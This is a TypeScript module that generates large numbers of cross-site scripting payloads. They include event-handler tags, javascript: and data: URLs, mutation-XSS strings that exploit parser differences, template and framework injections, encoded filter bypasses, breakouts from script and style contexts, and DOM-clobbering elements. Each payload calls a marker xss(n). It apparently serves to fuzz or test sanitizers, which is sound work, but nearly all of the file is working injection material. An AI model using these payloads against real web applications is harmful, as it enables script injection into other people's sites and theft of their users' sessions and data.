/**
 * Texts that would run `xss(n)` wherever a program takes a text for markup, a template, an address, script or style. Made
 * by a grammar of our own, so that there are as many as wished, all different, families taking turns.
 */
type Payload = (n: number) => string

const run = (n: number) => `xss(${n})`
const handlers = ['error', 'load', 'focus', 'mouseover', 'toggle', 'animationstart', 'begin', 'pointerenter', 'scroll']
const gaps = [' ', '/', '\t', '\n', '\f', ' \r\n']
const quotes = ['', '"', "'", '`']
const outOf = [
  '',
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '</script>',
  '-->',
  ']]>',
  '</style>',
  '</option>',
  '`>',
  '" ',
  "' ",
]
const cases: ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase(),
  (text) => [...text].map((c, i) => (i % 2 ? c.toUpperCase() : c)).join(''),
]
/** What makes the handler fire by itself, by tag. */
const firing: Record<string, string> = {
  img: 'src=x:',
  svg: '',
  body: '',
  input: 'autofocus',
  select: 'autofocus',
  textarea: 'autofocus',
  video: 'src=x:',
  audio: 'src=x:',
  details: 'open',
  iframe: 'src=about:blank',
  object: 'data=x:',
  embed: 'src=x:',
  marquee: 'loop=1',
  a: 'href=# autofocus',
  math: 'tabindex=1 autofocus',
  button: 'autofocus',
  'x-y': 'tabindex=1 autofocus style=display:block',
}

function each<A, B>(as: readonly A[], bs: readonly B[]): [A, B][] {
  return as.flatMap((a) => bs.map((b): [A, B] => [a, b]))
}

const handled: Payload[] = each(Object.entries(firing), handlers).map(([[tag, more], event], i) => {
  const gap = gaps[i % gaps.length] ?? ' '
  const quote = quotes[i % quotes.length] ?? ''
  const cased = cases[i % cases.length] ?? String
  const out = outOf[(i * 5) % outOf.length] ?? ''
  return (n) => `${out}<${cased(tag)}${gap}${more}${gap}${cased(`on${event}`)}=${quote}${run(n)}${quote}>`
})
const scripts: Payload[] = each(outOf, cases).flatMap(([out, cased]): Payload[] => [
  (n) => `${out}<${cased('script')}>${run(n)}</${cased('script')}>`,
  (n) => `${out}<${cased('script')} src=data:,${run(n)}></${cased('script')}>`,
  (n) => `${out}<<${cased('script')}>${run(n)}//<</${cased('script')}>`,
  (n) => `${out}<scr<script>ipt>${run(n)}</scr</script>ipt>`,
])
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  '\u0001javascript:',
  'vbscript:',
  'javascript&colon;',
  'javascript://%0a',
  'data:text/html,<script>',
]
const places = [
  (url: string) => `<a href="${url}">x</a>`,
  (url: string) => `<iframe src='${url}'></iframe>`,
  (url: string) => `<form action=${url}><input type=submit autofocus></form>`,
  (url: string) => `<svg><a xlink:href="${url}"><text>x</text></a></svg>`,
  (url: string) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (url: string) => `<base href="${url}">`,
  (url: string) => `<math><mi href="${url}">x</mi></math>`,
  (url: string) => `<button formaction="${url}">x</button>`,
  (url: string) => `[x](${url})`,
  (url: string) => url,
]
const addresses: Payload[] = each(places, schemes).map(
  ([place, scheme]) =>
    (n) =>
      place(`${scheme}${run(n)}`),
)

/** Harmless to one parser, not to the next one that reads what the first wrote. */
const img = (n: number) => `<img src=x: onerror=${run(n)}>`
const mutating: Payload[] = [
  (n) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${img(n).replaceAll('<', '&lt;')}">`,
  (n) => `<svg></p><style><a id="</style>${img(n)}">`,
  (n) => `<noscript><p title="</noscript>${img(n)}">`,
  (n) => `<form><math><mtext></form><form><mglyph><style></math>${img(n)}`,
  (n) => `<svg><![CDATA[><${img(n)}]]>`,
  (n) => `<listing>${img(n).replaceAll('<', '&lt;')}</listing>`,
  (n) => `<xmp><p title="</xmp>${img(n)}">`,
  (n) => `<select><template><p title="</template></select>${img(n)}">`,
  (n) => `<title><a title="</title>${img(n)}">`,
  (n) => `<!--><!--${img(n)}-->`,
  (n) => `<!--!>${img(n)}<!--`,
  (n) => `<?x>${img(n)}?>`,
  (n) => `<table><td background=x:><svg><foreignObject>${img(n)}`,
  (n) => `<svg><use href="data:image/svg+xml,${img(n)}#x">`,
  (n) =>
    `<svg><animate attributeName=href values=javascript:${run(n)} begin=0s><set attributeName=onmouseover to=${run(n)}>`,
  (n) => `<iframe srcdoc="${img(n)}">`,
  (n) => `<object data="data:text/html;base64,${Buffer.from(img(n)).toString('base64')}">`,
  (n) => `<p><a title="\u2028</p>${img(n)}">`,
]
const shells = outOf.map(
  (out) =>
    (inner: Payload): Payload =>
    (n) =>
      out + inner(n),
)
const mutated = each(shells, mutating).map(([shell, inner]) => shell(inner))

const thing = "constructor.constructor('%')()"
const templates = [
  '{{%}}',
  '${%}',
  '<%= % %>',
  '#{%}',
  '[[%]]',
  '{%= % %}',
  '{{{%}}}',
  '{{= % }}',
  '*{%}',
  '@(%)',
  '`${%}`',
  '{{"a".%}}',
]
const attributes = [
  'v-html',
  'v-on:mouseenter',
  '@vue:mounted',
  ':innerHTML',
  'v-bind:onclick',
  'ng-init',
  'x-init',
  'x-data',
  'hx-on',
  'v-text',
  'v-if',
  'is',
]
const templated: Payload[] = [
  ...templates.flatMap((t): Payload[] => [
    (n) => t.replace('%', () => run(n)),
    (n) => t.replace('%', () => thing.replace('%', run(n))),
    (n) => t.replace('%', () => `_c.${thing.replace('%', run(n))}`),
    (n) => t.replace('%', () => `$emit.${thing.replace('%', run(n))}`),
  ]),
  ...each(attributes, outOf).map(
    ([name, out]): Payload =>
      (n) =>
        `${out}<x-y ${name}="${run(n)}">`,
  ),
]

const encoders: ((text: string) => string)[] = [
  (text) => text.replace(/[<>"'=]/g, (c) => `&#${c.charCodeAt(0)};`),
  (text) => text.replace(/[<>"'=]/g, (c) => `&#x${c.charCodeAt(0).toString(16)}`),
  (text) => text.replace(/[<>"'=]/g, (c) => `&#000${c.charCodeAt(0)}`),
  (text) => encodeURIComponent(text),
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => text.replace(/[<>"'=]/g, (c) => `\\u00${c.charCodeAt(0).toString(16)}`),
  (text) => text.replace(/[<>"'=]/g, (c) => `\\x${c.charCodeAt(0).toString(16)}`),
  (text) => text.replaceAll('<', '＜').replaceAll('>', '＞'),
  (text) => text.replaceAll('<', '‹').replaceAll('>', '›'),
  (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&lt').replaceAll('>', '&gt'),
  (text) => `\u202e${text}\u202c`,
  (text) => `\ufeff${text}`,
  (text) => [...text].join('\u200b').replaceAll('\u200b(', '('),
  (text) => `王磊${text}𠮷`,
]
const bare: Payload[] = [
  ...outOf.map(
    (out): Payload =>
      (n) =>
        out + img(n),
  ),
  (n) => `<script>${run(n)}</script>`,
]
const encoded = each(encoders, bare).map(
  ([encode, inner]): Payload =>
    (n) =>
      encode(inner(n)),
)

/** Out of a string in a script, a style, a comment, a JSON block in a page. */
const insides: Payload[] = each(
  ['"', "'", '`', '\\"', "\\'", '*/', '\n', '\u2028', '\u2029', '</script>', '}</style>', '<!--', ']]>', '");', "');"],
  ['%', '%//', '-%-', '+%+', ';%;', '${%}', '</script><script>%', '}%{', ');%;(', 'import(%)'],
).map(
  ([out, inner]) =>
    (n) =>
      out + inner.replace('%', () => run(n)),
)
const styles: Payload[] = each(
  ['<style>%</style>', '<p style="%">', '<link rel=stylesheet href="data:text/css,%">', '"style="%'],
  [
    '*{background:url(javascript:xss)}',
    'a:expression(xss)',
    '@import"javascript:xss"',
    'x{animation:y}@keyframes y{}',
    'behavior:url(x:xss)',
    '-moz-binding:url(x:xss)',
  ],
).map(
  ([place, css]) =>
    (n) =>
      place.replace('%', () => css.replaceAll('xss', run(n))),
)
const clobbering: Payload[] = each(
  ['a', 'form', 'img', 'input', 'object', 'iframe'],
  ['app', 'cookie', 'body', 'getElementById', 'location', 'WeixinJSBridge', '__VUE__', 'xss', '__proto__'],
).map(
  ([tag, name]) =>
    (n) =>
      `<${tag} id=${name} name=${name} title=${n} href=javascript:${run(n)}>`,
)

const families = [handled, scripts, addresses, mutated, templated, encoded, insides, styles, clobbering]

/** So many, all different, families taking turns; most say `xss(n)` with the number of their place. */
export function payloads(count: number): string[] {
  const made = new Set<string>()
  for (let round = 0; made.size < count; round++)
    for (const family of families) {
      // Another round through a family comes in another surrounding.
      const again = Math.floor(round / family.length)
      const payload = family[round % family.length]
      if (payload && made.size < count) made.add(`${outOf[(again * 7) % outOf.length] ?? ''}${payload(made.size)}`)
    }
  return [...made]
}
